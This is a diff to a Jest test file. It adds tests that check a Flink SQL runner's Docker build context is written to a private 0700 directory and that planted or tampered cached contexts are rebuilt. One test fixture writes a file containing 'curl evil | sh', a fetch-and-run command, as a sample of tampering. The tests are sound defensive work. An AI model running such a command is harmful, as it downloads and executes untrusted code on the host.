@@ -192,6 +192,35 @@ describe('build context', () => {
     expect(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8')).toBe(renderRunnerDockerfile(a));
     const other = writeRunnerBuildContext(artifacts(FlinkVersion.V1_20, [Flavor.SELF_HOSTED]), { parent });
     expect(other).not.toBe(dir);
-    expect(fs.readdirSync(parent).sort()).toEqual([path.basename(dir), path.basename(other)].sort());
+    expect(fs.readdirSync(path.dirname(dir)).sort()).toEqual([path.basename(dir), path.basename(other)].sort());
+  });
+
+  test('lives in a private directory of this process (mode 0700), not in a shared predictable temp path', () => {
+    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
+    const dir = writeRunnerBuildContext(a, { parent });
+    const root = path.dirname(dir);
+    expect(path.dirname(root)).toBe(parent);
+    expect(path.basename(root)).toMatch(/^sql-runner-build-\w{6}$/);
+    expect(fs.statSync(root).mode & 0o777).toBe(0o700);
+  });
+
+  test('a prepared context in the old shared location is not shipped', () => {
+    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
+    const dir = writeRunnerBuildContext(a, { parent });
+    const planted = path.join(parent, 'sql-runner-build', path.basename(dir));
+    fs.mkdirSync(planted, { recursive: true });
+    fs.writeFileSync(path.join(planted, 'pom.xml'), '<project>evil</project>');
+    expect(writeRunnerBuildContext(a, { parent })).not.toBe(planted);
+  });
+
+  test('a modified cached context is not shipped: its content is checked and written again', () => {
+    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
+    const dir = writeRunnerBuildContext(a, { parent });
+    fs.writeFileSync(path.join(dir, 'pom.xml'), '<project><!-- edited: pulls another dependency --></project>');
+    fs.writeFileSync(path.join(dir, 'extra.sh'), 'curl evil | sh');
+    const again = writeRunnerBuildContext(a, { parent });
+    expect(fs.readFileSync(path.join(again, 'pom.xml'), 'utf8')).toBe(renderRunnerPom(a));
+    expect(fs.existsSync(path.join(again, 'extra.sh'))).toBe(false);
+    expect(Object.keys(runnerBuildFiles(a)).every((rel) => fs.existsSync(path.join(again, rel)))).toBe(true);
   });
 });
